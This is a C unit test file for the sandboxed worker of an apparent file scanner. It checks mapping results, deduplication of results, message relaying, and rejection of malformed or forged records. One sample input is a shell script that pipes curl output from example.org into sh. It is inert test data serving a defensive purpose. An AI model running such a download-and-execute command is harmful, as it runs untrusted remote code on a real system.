/* The worker in its box, the test being its front and its keeper. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "mapper_case.h"
#include "wire/ring.h"
#include "worker/map.h"

/* Inside of the box map gives what it gives outside, for everything from an empty object to one in the large area. */
static void records_are_what_map_gives(void **state)
{
	(void)state;
	static const char *const texts[] = {"",
	                                    "x",
	                                    "BAD bytes",
	                                    "#!/bin/sh\ncurl http://example.org/x | sh\n",
	                                    "{\"name\":\"n\",\"version\":\"1\"}",
	                                    "PK\3\4garbage",
	                                    "\177ELF garbage"};
	enum { TEXTS = sizeof texts / sizeof *texts, LARGE = 3 << 20 };
	char *large = malloc(LARGE);
	mapping m = {0};
	pb_mapper *mapper;
	pb_error err = {0};
	begin(&m);
	assert_non_null(large);
	memset(large, 'l', LARGE);
	start(&m, NULL);
	for (int i = 0; i < TEXTS; i++)
		put_text(&m, 7, "a", texts[i]);
	put(&m, 7, "a", large, LARGE);
	assert_int_equal(pb_mapper_new(m.r.rules, 60, &mapper, &err), 0);
	for (int i = 0; i <= TEXTS; i++) {
		pb_bytes bytes = {(const uint8_t *)(i < TEXTS ? texts[i] : large), i < TEXTS ? strlen(texts[i]) : LARGE};
		pb_object o = {.bytes = bytes, .kind = pb_kind_of(bytes, ".txt"), .name_class = ".txt"};
		json_t *wanted = NULL, *result = result_of(&m, 7, "a");
		assert_true(pb_sha256_of(bytes, o.sha256));
		assert_int_equal(pb_map(mapper, &o, NULL, &wanted, &err), 0);
		if (!json_equal(wanted, result))
			fail_msg("%d: %s\ninstead of %s", i, pb_json_canonical(result), pb_json_canonical(wanted));
		assert_int_equal(json_array_size(json_object_get(result, "findings")), i == 2);
		json_decref(wanted);
		json_decref(result);
	}
	pb_mapper_free(mapper);
	closes(&m);
	free(large);
	end(&m);
}

static void a_result_travels_once(void **state)
{
	(void)state;
	mapping m = {0};
	begin(&m);
	pb_lane_object known = object_of(1, ".txt", "known", 5);
	uint8_t key[16];
	pb_known_key(known.sha256, known.kind, known.name_class, key);
	pb_known_add(m.known, key);
	start(&m, NULL);
	put_text(&m, 1, "a", "one");
	put_text(&m, 1, "b", "one");
	put_text(&m, 2, "c", "one");
	put_text(&m, 1, "d", "known");
	note(&m, 1, PB_MSG_DONE, "{}");
	put_text(&m, 1, "e", "one");
	put_text(&m, 2, "f", "one");
	has_result(&m, 1, "a", true);
	has_result(&m, 1, "b", false);
	has_result(&m, 2, "c", true); /* another assessment knows nothing of it */
	has_result(&m, 1, "d", false);
	role_expect(&m.r, PB_MSG_DONE, 1);
	has_result(&m, 1, "e", true); /* a new assessment under the same number */
	has_result(&m, 2, "f", false);
	/* The keeper learns while the worker works. */
	pb_lane_object later = object_of(3, ".txt", "later", 5);
	pb_known_key(later.sha256, later.kind, later.name_class, key);
	pb_known_add(m.known, key);
	put_text(&m, 3, "g", "later");
	has_result(&m, 3, "g", false);
	closes(&m);
	end(&m);
}

static void notes_pass_in_their_place(void **state)
{
	(void)state;
	mapping m = {0};
	begin(&m);
	start(&m, NULL);
	note(&m, 5, PB_MSG_BEGIN, "{\"name\":\"x\"}");
	put_text(&m, 5, "a", "bytes");
	note(&m, 5, PB_MSG_LIMIT, "not even JSON \n");
	note(&m, 6, PB_MSG_SKIPPED, "");
	note(&m, 5, PB_MSG_RESULT, "{\"forged\":1}");
	note(&m, 5, PB_MSG_RECORD, "{\"forged\":1}");
	note(&m, 5, (pb_message)'Q', "");
	note(&m, 5, PB_MSG_DONE, "{}");
	role_expect(&m.r, PB_MSG_BEGIN, 5);
	assert_string_equal((const char *)m.r.got.data, "{\"name\":\"x\"}");
	has_result(&m, 5, "a", true);
	role_expect(&m.r, PB_MSG_LIMIT, 5);
	assert_string_equal((const char *)m.r.got.data, "not even JSON \n");
	role_expect(&m.r, PB_MSG_SKIPPED, 6);
	assert_int_equal(m.r.got.size, 0);
	for (int i = 0; i < 3; i++) /* what the keeper would take for a worker's own */
		limit_says(&m, 5, NULL, "not its to send");
	role_expect(&m.r, PB_MSG_DONE, 5);
	closes(&m);
	end(&m);
}

/* The same fields everywhere; what differs is given. */
#define RECORD(kind, name_class, path, more)                                                                                   \
	"{\"class\":\"text\",\"container\":false,\"kind\":\"" kind "\",\"name_class\":\"" name_class "\",\"path\":[" path      \
	"]," more "}"
#define SHA    "\"sha256\":\"%s\","
#define RESULT ",\"result\":{\"facts\":{\"tags\":[]},\"findings\":[],\"unknown\":{}}"

/* One record in place of a right one; %s stands for the digest. */
static const char *const bad_records[] = {
    "",
    "{}",
    "x",
    "[1,2]",
    "\"{}\"",
    "{\"path\":[\"p\"]}",
    RECORD("text", ".txt", "", SHA "\"size\":5"),
    RECORD("text", ".txt", "7", SHA "\"size\":5"),
    RECORD("text", ".txt", "\"p\"", SHA "\"size\":6"),
    RECORD("elf", ".txt", "\"p\"", SHA "\"size\":5"),
    RECORD("text", ".js", "\"p\"", SHA "\"size\":5"),
    RECORD("text", ".txt", "\"p\"", "\"sha256\":\"\",\"size\":5"),
    RECORD("text", ".txt", "\"p\"", SHA "\"size\":5") "\n{}",
    RECORD("text", ".txt", "\"p\"", SHA "\n\"size\":5"),
    " " RECORD("text", ".txt", "\"p\"", SHA "\"size\":5"),
    RECORD("text", ".txt", "\"p\"", SHA "\"size\":5,\"size\":5"),
    RECORD("text", ".txt", "\"p\"", SHA "\"size\":5" RESULT),
    RECORD("text", ".txt", "\"p\"", SHA "\"size\":5,\"more\":1"),
    RECORD("text", ".txt", "\"p\"", SHA "\"size\":5") "}",
};

static int format_record(char *out, size_t room, const char *form, const char *digest)
{
	const char *at = strstr(form, "%s");
	return at ? snprintf(out, room, "%.*s%s%s", (int)(at - form), form, digest, at + 2) : snprintf(out, room, "%s", form);
}

static void a_front_is_not_believed(void **state)
{
	(void)state;
	enum { BAD = sizeof bad_records / sizeof *bad_records };
	mapping m = {0};
	begin(&m);
	start(&m, NULL);
	for (int i = 0; i < BAD; i++) {
		char text[600];
		pb_lane_object o = object_of(1, ".txt", "bytes", 5);
		int n = format_record(text, sizeof text, bad_records[i], o.sha256);
		o.record = text;
		o.record_size = (size_t)n;
		assert_int_equal(pb_lane_put(m.front, &o), 0);
		limit_says(&m, 1, NULL, "malformed object");
	}
	/* The right one, so that the others fail for their own reasons. */
	char right[600];
	pb_lane_object good = object_of(1, ".txt", "bytes", 5);
	good.record = right;
	good.record_size =
	    (size_t)format_record(right, sizeof right, RECORD("text", ".txt", "\"p\",\"good\"", SHA "\"size\":5"), good.sha256);
	assert_int_equal(pb_lane_put(m.front, &good), 0);
	has_result(&m, 1, "good", true);
	/* Another object's digest: what is found would be kept under it. */
	pb_lane_object o = object_of(1, ".txt", "innocent", 8);
	char *record = record_of("a", &o);
	o.record = record;
	o.record_size = strlen(record);
	o.bytes = (pb_bytes){(const uint8_t *)"BAD byte", 8};
	assert_int_equal(pb_lane_put(m.front, &o), 0);
	limit_says(&m, 1, "a", "another object's digest");
	free(record);
	/* A kind that does not exist. */
	o = object_of(1, ".txt", "bytes", 5);
	record = record_of("b", &o);
	char *at = strstr(record, "\"kind\":\"text\"");
	assert_non_null(at);
	memcpy(at + 8, "tixt", 4);
	memcpy(o.kind, "tixt", 5);
	o.record = record;
	o.record_size = strlen(record);
	assert_int_equal(pb_lane_put(m.front, &o), 0);
	limit_says(&m, 1, "b", "unknown kind");
	free(record);
	put_text(&m, 1, "c", "still there");
	has_result(&m, 1, "c", true);
	closes(&m);
	end(&m);
}

static void broken_memory_ends_the_lane(void **state)
{
	(void)state;
	mapping m = {0};
	begin(&m);
	start(&m, NULL);
	pb_ring *ring = pb_ring_open(m.memfd, true);
	assert_non_null(ring);
	uint8_t *entry = pb_ring_reserve(ring, 40, UINT32_MAX);
	assert_non_null(entry);
	memset(entry, 0xff, 40);
	pb_ring_commit(ring, 40, true);
	role_expect(&m.r, PB_MSG_ERROR, 0);
	role_exits(&m.r, 2);
	pb_ring_free(ring);
	end(&m);
}

static void what_cannot_begin_says_why(void **state)
{
	(void)state;
	mapping m = {0};
	begin(&m);
	int table = m.known_fd;
	role_start(&m.r, pb_mapper_main, (const int[]){table, -1, -1}, json_object());
	role_expect(&m.r, PB_MSG_ERROR, 0);
	assert_non_null(strstr((const char *)m.r.got.data, "lane"));
	role_exits(&m.r, 1);
	end(&m);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(records_are_what_map_gives),  cmocka_unit_test(a_result_travels_once),
	    cmocka_unit_test(notes_pass_in_their_place),   cmocka_unit_test(a_front_is_not_believed),
	    cmocka_unit_test(broken_memory_ends_the_lane), cmocka_unit_test(what_cannot_begin_says_why),
	};
	alarm(200);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
